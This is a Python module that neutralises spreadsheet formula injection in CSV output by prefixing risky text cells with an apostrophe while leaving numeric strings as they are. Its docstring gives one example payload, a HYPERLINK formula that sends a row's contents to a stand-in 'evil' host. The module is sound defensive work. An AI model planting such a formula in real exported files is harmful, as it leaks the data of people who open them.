"""Spreadsheet-safe CSV cells (formula injection, OWASP "CSV Injection").

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading one of those) is run as a formula when the file is opened in
Excel, LibreOffice or Google Sheets: ``=HYPERLINK("http://evil/?"&A1, "click")`` exfiltrates the
row. Text cells that start so get a leading apostrophe, which spreadsheets show as plain text;
numbers (and numbers already formatted as text) are written as they are.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# A plain number written as text ("-0.25", "+3", "-1e-06") is data a spreadsheet reads as a number,
# not a formula: it stays as it is so negative figures keep sorting and summing.
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?%?")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: list[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


class SafeWriter:
    """A ``csv.writer`` whose rows go through ``safe_row``."""

    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: list[Any]) -> Any:
        return self._writer.writerow(safe_row(list(row)))
